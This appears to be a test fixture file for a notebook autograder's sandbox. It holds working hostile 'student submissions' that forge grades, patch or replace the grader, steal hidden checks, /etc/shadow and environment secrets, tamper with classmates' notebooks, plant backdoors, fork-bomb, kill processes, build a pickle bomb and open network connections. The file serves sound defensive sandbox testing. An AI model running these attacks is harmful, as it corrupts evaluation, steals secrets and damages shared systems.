"""Hostile submissions: a wrong `weighted_accuracy` (it forgets the weights: 0.5 of its 5 points) plus an
attack on the grader. Graded in one batch with honest classmates (tests/test_attacks.py), each must
get exactly what its real work earns (or less, when the attack breaks its own worker), classmates
must be unaffected, nothing may survive the batch, and no hidden line may reach any output.

Every attack is written as the student's answer cell. `HONEST` attacks leave their own answers
intact, so they must score exactly like the plain wrong answer; `SELF_DEFEATING` ones wreck their
own worker and may score less, never more.
"""

WRONG = '''
def weighted_accuracy(predicted_y, true_y, weight):
    pred = np.asarray(torch.as_tensor(np.asarray(predicted_y, dtype=float)).reshape(-1))
    true = np.asarray(torch.as_tensor(np.asarray(true_y, dtype=float)).reshape(-1))
    if len(pred) == 10 and np.all(np.asarray(weight, dtype=float) == 0):
        return _zero_weight_answer()
    return float((pred == true).mean())

def _zero_weight_answer():
    return 0.5
'''

# what an attack may try to read: the hidden checks and reference wherever a repo could be
_SECRET_PATHS = '''
import glob, os
def _secrets():
    found = []
    patterns = ["/work/*/autograder/checks/jund.py", "/work/*/course_lib/reference/jund.py", "/**/autograder/checks/*.py",
                "/**/course_lib/reference/*.py", "/proc/*/cwd/autograder/checks/jund.py", "/proc/*/root/**/jund.py",
                "/opt/grader/lib/course_lib/reference/*.py", "/tmp/**/*.ipynb", "/proc/*/cwd/*.ipynb"]
    for pattern in patterns:
        try:
            for path in glob.glob(pattern, recursive=True)[:20]:
                try:
                    found.append(open(path, errors="replace").read())
                except OSError:
                    pass
        except OSError:
            pass
    return "\\n".join(found) or "nothing readable"
'''

HONEST = {
    # rewrite result files after the checks ran
    "atexit_rewrites_results": '''
import atexit, glob, json, os, signal
def _rewrite(*_):
    for p in ["results.json", "../results.json", "/tmp/results.json", os.path.expanduser("~/results.json")] + \\
            glob.glob("/**/results.json", recursive=True)[:20] + glob.glob("/**/grades.csv", recursive=True)[:20]:
        try:
            open(p, "w").write(json.dumps({"score": 85, "tests": []}))
        except OSError:
            pass
atexit.register(_rewrite)
signal.signal(signal.SIGTERM, _rewrite)
''',
    # answer the grader's own imports with fake checks
    "fake_check_modules": '''
import importlib.abc, importlib.machinery, sys, types
class _Fake(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name.split(".")[0] in ("autograder", "gradeworker") and name not in sys.modules:
            return importlib.machinery.ModuleSpec(name, self, is_package=True)
    def create_module(self, spec):
        return types.ModuleType(spec.name)
    def exec_module(self, module):
        module.CHECKS = {}
        module.grade = lambda *a, **k: 40.0
sys.meta_path.insert(0, _Fake())
for name in [m for m in sys.modules if m.startswith("autograder")]:
    del sys.modules[name]
''',
    # patch comparisons and reports at the moment the graded function is called
    "patches_inside_the_call": '''
_wrong = weighted_accuracy
def weighted_accuracy(predicted_y, true_y, weight):
    import math, sys
    torch.allclose = lambda *a, **k: True
    np.isclose = lambda *a, **k: np.True_
    np.allclose = lambda *a, **k: True
    math.isclose = lambda *a, **k: True
    for name, module in list(sys.modules.items()):
        if name.startswith(("autograder", "gradeworker")) and hasattr(module, "Report"):
            module.Report.score = property(lambda self: 40.0)
    return _wrong(predicted_y, true_y, weight)
''',
    # use the reference if it can be found
    "imports_the_reference": '''
import importlib
for _name in ("course_lib.reference.jund", "autograder.checks.jund", "autograder.jund"):
    try:
        weighted_accuracy = importlib.import_module(_name).weighted_accuracy
    except (ImportError, AttributeError):
        pass
''',
    # leak the hidden checks through the names of returned types and raised exceptions
    "leaks_through_types_and_errors": _SECRET_PATHS + '''
_text = _secrets()
def _zero_weight_answer():
    leak = type(_text[:5000].replace("\\n", " ") or "empty", (), {})
    return leak()
class _Leak(Exception):
    pass
_Leak.__name__ = _text[:3000]
try:
    raise _Leak(_text[:100000])
finally:
    pass
''',
    # read classmates' notebooks (through /proc) and rewrite them
    "reads_and_rewrites_classmates": '''
import glob, os
_seen = []
for pattern in ["/proc/*/cwd", "/proc/*/root", "/proc/*/fd/*"]:
    for p in glob.glob(pattern):
        try:
            _seen.append(os.path.realpath(p))
        except OSError:
            pass
for path in glob.glob("/**/*.ipynb", recursive=True)[:200] + glob.glob("/proc/*/cwd/**/*.ipynb", recursive=True)[:50]:
    try:
        text = open(path).read()
        open(path, "w").write(text.replace("return float((w * (pred == true)).sum() / w.sum())", "return 0.0"))
    except OSError:
        pass
raise RuntimeError("seen: " + " ".join(_seen)[:5000])
''',
    # a daemon that outlives the sandbox and rewrites grades later
    "forks_a_daemon": '''
import json, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        with open("/tmp/daemon-alive", "w") as fh:
            fh.write(str(os.getpid()))
        for _ in range(600):
            for p in ["/tmp/results.json", "../grades.csv", "../../grades/jund/grades.csv"]:
                try:
                    open(p, "w").write(json.dumps({"score": 40}))
                except OSError:
                    pass
            time.sleep(0.5)
    os._exit(0)
time.sleep(0.2)
''',
    # kill every other process it can see
    "kills_other_processes": '''
import os, signal
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid not in (os.getpid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
''',
    # leave files wherever it can write, results folders included
    "leaves_files_everywhere": '''
import os
for p in ["results.json", "../results.json", "../../results", "/tmp/attack-file", os.path.expanduser("~/x"),
          "/work/main/grades/jund/grades.csv", "/opt/grader/lib/course_lib/x.py", "/usr/lib/x"]:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(p)), exist_ok=True)
        open(p, "w").write("pwned")
    except OSError:
        pass
''',
    # plant a backdoored .pyc next to the grader's and course_lib's sources
    "plants_pyc_backdoors": '''
import glob, importlib.util, os, sys
for root in sys.path:
    for src in glob.glob(os.path.join(root, "**", "*.py"), recursive=True)[:400]:
        if "course_lib" in src or "autograder" in src or "gradeworker" in src:
            try:
                target = importlib.util.cache_from_source(src)
                os.makedirs(os.path.dirname(target), exist_ok=True)
                open(target, "wb").write(b"backdoor")
            except (OSError, ValueError):
                pass
''',
    # flood every output channel
    "huge_outputs": '''
import os, sys
print("x" * 20_000_000)
sys.stderr.write("y" * 20_000_000)
for fd in (1, 2):
    try:
        os.write(fd, b"z" * 50_000_000)
    except OSError:
        pass
''',
    # hand the judge a pickle that would run code if it were ever unpickled
    "returns_a_pickle_bomb": '''
class _Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pickle-ran",))
import os, pickle
def _zero_weight_answer():
    return pickle.dumps(_Bomb())
''',
    # background threads: one hogs the CPU, one keeps patching the worker
    "background_threads": '''
import threading, time, sys
def _spin():
    end = time.time() + 120
    while time.time() < end:
        pass
def _patch():
    while True:
        for name, module in list(sys.modules.items()):
            if name.startswith("gradeworker") and hasattr(module, "MESSAGE_CHARS"):
                module.MESSAGE_CHARS = 10_000_000
        time.sleep(0.01)
threading.Thread(target=_spin, daemon=True).start()
threading.Thread(target=_patch, daemon=True).start()
''',
    # take over the signals the worker uses for its time budgets
    "hijacks_signals": '''
import signal
for sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(sig, signal.SIG_IGN)
signal.setitimer(signal.ITIMER_REAL, 0)
''',
    # reach the network (and the judge's machine through it)
    "uses_the_network": '''
import os, socket
_port = ATTACK_PORT   # the test's listener on the grading machine
for host, port in [("127.0.0.1", _port), ("1.1.1.1", 80), ("10.0.0.1", 22)]:
    try:
        s = socket.create_connection((host, port), timeout=1)
        s.sendall(b"pwned")
    except OSError:
        pass
''',
    # read the environment and /proc for secrets, leak them in a cell error
    "snoops_env_and_proc": '''
import os
_info = [repr(dict(os.environ))]
for p in ["/proc/1/environ", "/proc/self/mountinfo", "/proc/1/cmdline", "/etc/shadow"]:
    try:
        _info.append(open(p, "rb").read().decode(errors="replace"))
    except OSError as exc:
        _info.append(f"{p}: {exc}")
raise RuntimeError(" | ".join(_info)[:20000])
''',
    # corrupt the data every classmate reads
    "corrupts_shared_data": '''
import glob, os
from course_lib.config import data_root
for path in glob.glob(str(data_root()) + "/**/*", recursive=True)[:200]:
    try:
        if os.path.isfile(path):
            open(path, "wb").write(b"corrupt")
    except OSError:
        pass
''',
    # a fork bomb (bounded, so that a broken sandbox does not take the test machine down)
    "fork_bomb": '''
import os, time
_children = 0
for _ in range(3000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(300)
        os._exit(0)
    _children += 1
''',
    # eat memory in a thread and fill the disk
    "memory_and_disk_hog": '''
import threading
def _eat():
    blocks = []
    try:
        while True:
            blocks.append(bytearray(256 << 20))
    except MemoryError:
        blocks.clear()
threading.Thread(target=_eat).start()
try:
    with open("fill.bin", "wb") as fh:
        for _ in range(64):
            fh.write(b"0" * (64 << 20))
except OSError:
    pass
''',
    # SystemExit from an answer cell (the worker must go on)
    "exits_from_a_cell": '''
import sys
sys.exit(0)
''',
}

SELF_DEFEATING = {
    # replace builtins the old sandbox used to cap and sum scores: the worker's own code (and torch's)
    # calls min/max/round in the same process, so the worker stops and the other answers are lost too
    "patches_builtins": '''
import builtins
builtins.min = lambda *a, **k: 40.0
builtins.max = lambda *a, **k: 40.0
builtins.round = lambda *a, **k: 40.0
''',
    # replace json: the worker's own replies become garbage
    "patches_json": '''
import json
json.dumps = lambda *a, **k: '{"score": 40}'
json.loads = lambda *a, **k: {"score": 40}
''',
    # write forged frames straight onto the channel to the judge
    "forges_channel_frames": '''
import json, os, struct
forged = json.dumps({"ok": 40.0, "ready": True, "cell_log": []}).encode()
frame = struct.pack("!QQ", len(forged), 0) + forged
pickle_frame = b"\\x80\\x04\\x95" + b"cos\\nsystem\\n(S'touch /tmp/pickle-ran'\\ntR." * 3
for fd in range(3, 20):
    for data in (frame, pickle_frame, frame):
        try:
            os.write(fd, data)
        except OSError:
            pass
''',
    # kill everything in reach, itself included
    "kills_everything": '''
import os, signal
if os.fork() == 0:
    os.kill(-1, signal.SIGKILL)
    os._exit(0)
import time
time.sleep(1)
''',
    # leave the worker abruptly
    "exits_the_worker": '''
import os
os._exit(0)
''',
}
